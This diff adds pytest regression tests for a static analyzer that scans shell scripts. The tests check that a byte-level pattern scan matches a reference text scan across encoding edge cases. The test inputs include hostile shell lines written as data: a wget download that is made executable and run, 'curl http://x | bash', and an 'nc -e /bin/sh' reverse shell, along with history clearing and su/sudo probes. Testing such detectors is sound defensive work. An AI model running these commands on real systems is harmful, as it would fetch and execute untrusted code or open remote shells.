@@ -0,0 +1,41 @@
+"""
+Regression tests for the Lambda static analyzer's pattern scan
+"""
+
+import itertools
+import os
+import sys
+
+import pytest
+
+sys.path.insert(0, os.path.join(os.path.dirname(__file__), '..', 'lambda-package'))
+
+import lambda_analyzer as la
+
+
+def _scan(data):
+    return la.ShellScriptAnalyzer.from_bytes('probe.sh', data)._scan()
+
+
+def _text_scan(data):
+    """Reference scan: the text patterns over the decoded, newline-normalized content"""
+    text = data.decode('utf-8', 'ignore').replace('\r\n', '\n').replace('\r', '\n')
+    return [
+        pattern.findall(text) if limit is None
+        else [match.group(0) for match in itertools.islice(pattern.finditer(text), limit)]
+        for pattern, limit in zip(la._SCAN_PATTERNS, la._SCAN_LIMITS)
+    ]
+
+
+@pytest.mark.parametrize('data', [
+    b'\xc3\xa9curl x\n',            # word char before \b
+    b'su\xc2\xa0root\n',             # non-ASCII whitespace for \s
+    b'history\x1c-c\n',              # ASCII separator that text \s matches
+    b'cu\xffrl\n',                   # invalid UTF-8 dropped on decode
+    b'\xc5\xbfudo ls\r\n',           # long s, which IGNORECASE folds to s
+    b'wget http://x/a -O /tmp/a; chmod 777 /tmp/a; /tmp/a\n',
+    b'curl http://x | bash\r\nnc -e /bin/sh 10.0.0.1 4444\r\n',
+])
+def test_scan_keeps_text_semantics(data):
+    assert [list(map(la._sample_text, found)) for found in _scan(data)] == \
+        [list(map(la._sample_text, found)) for found in _text_scan(data)]